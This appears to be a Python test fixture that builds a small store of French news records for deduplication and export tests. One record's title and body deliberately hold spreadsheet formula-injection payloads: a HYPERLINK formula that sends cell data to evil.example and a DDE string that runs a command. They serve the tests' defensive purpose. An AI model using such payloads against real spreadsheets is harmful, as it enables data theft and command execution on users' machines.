"""A small store for the reader's polish tests (t-reader20 R9, R10, R13): a story of three
undated copies (first seen in one batch: both ends of its span read the same), a dispatch
and its later reprint, and an article whose ingested headline and body start like
spreadsheet formulas (what a hostile feed can send)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from web_kit import records_data_dir

UNDATED_TEXT = ("Le conseil municipal de Saint-Gaudens a voté jeudi soir la fermeture de la "
                "piscine Castéra pour travaux. Les nageurs du club local s'entraîneront à "
                "Montréjeau pendant les dix-huit mois du chantier, a précisé la mairie. "
                "Le coût des travaux est estimé à 4,2 millions d'euros.")
DISPATCH_TEXT = ("Le gouvernement a présenté mercredi un plan de soutien aux éleveurs de "
                 "brebis des Pyrénées touchés par la sécheresse. Les aides, versées dès "
                 "janvier, couvriront la moitié des achats de fourrage, selon le ministère "
                 "de l'Agriculture. Les syndicats agricoles jugent le montant insuffisant.")
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
FORMULA_TEXT = ("+cmd|' /C calc'!A0 Un texte sur la fermeture d'une usine de papier à "
                "Saint-Gaudens, qui emploie 200 salariés, annoncée jeudi par la direction.")
ORIGINAL_URL = "https://agence.example/brebis"
REPRINT_URL = "https://quotidien.example/brebis"


def records() -> list[dict[str, Any]]:
    """Every record of the store."""
    undated = [{"url": f"https://{host}/piscine", "language": "fr",
                "title": "Saint-Gaudens : la piscine Castéra fermée pour travaux",
                "text": UNDATED_TEXT} for host in ("d.example", "e.example", "f.example")]
    dispatch = {"title": "Sécheresse : un plan de soutien aux éleveurs de brebis",
                "text": DISPATCH_TEXT, "language": "fr"}
    return [*undated,
            {**dispatch, "url": ORIGINAL_URL, "published": "2026-11-25T09:00:00+01:00"},
            {**dispatch, "url": REPRINT_URL, "published": "2026-11-25T11:30:00+01:00"},
            {"url": "https://csv-test.example/1", "title": FORMULA_TITLE, "text": FORMULA_TEXT,
             "published": "2026-11-28T10:00:00+01:00", "language": "fr"}]


def build(root: Path) -> Path:
    """The data directory, ingested in one batch (as ``veille ingest`` would)."""
    return records_data_dir(root, records())
